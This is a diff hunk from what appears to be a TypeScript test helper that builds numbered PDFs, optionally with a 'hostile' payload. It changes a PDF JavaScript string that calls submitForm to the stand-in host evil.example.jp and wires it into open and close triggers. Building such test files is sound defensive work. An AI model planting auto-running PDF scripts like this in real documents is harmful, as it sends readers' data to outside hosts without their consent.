@@ -35,7 +35,7 @@ export function numbered(count: number, hostile = false): Buffer {
   const [pages, font, outline, first, second] = [2, 3, 4, 5, 6];
   const before = 6;
   const page = (index: number) => before + 1 + 2 * index;
-  const script = "/S /JavaScript /JS (app.alert('hello'\\); this.submitForm('http://www.evil.example.jp/'\\);)";
+  const script = "/S /JavaScript /JS (app.alert('hello'); this.submitForm('http://www.evil.example.jp/');)";
   const bad = hostile ? `/OpenAction << ${script} >> /AA << /WC << ${script} >> >>` : '';
   const link = hostile
     ? `/Annots [<< /Type /Annot /Subtype /Link /Rect [300 0 500 200] /A << /S /URI /URI (http://www.city.example.lg.jp/next) >> >>
